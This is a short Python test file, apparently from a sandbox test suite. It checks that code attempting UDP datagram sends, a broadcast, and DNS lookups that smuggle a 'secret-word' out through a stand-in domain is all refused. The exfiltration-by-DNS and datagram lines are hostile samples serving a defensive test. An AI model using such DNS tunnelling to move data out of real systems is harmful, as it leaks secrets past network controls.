"""Attack: send datagrams, and carry words out in questions to a name server."""

LOSES = ()
CODE = """
import socket
attempt("datagram", lambda: socket.socket(2, 2).sendto(b"x", ("127.0.0.1", HOST["udp"])))
attempt("broadcast", lambda: socket.socket(2, 2).sendto(b"x", ("255.255.255.255", HOST["udp"])))
attempt("name", socket.getaddrinfo, "secret-word.example.org", 80)
attempt("host", socket.gethostbyname, "secret-word.example.org")
"""


def test_nothing_is_sent(graded):
    graded.check()
    graded.all_refused()
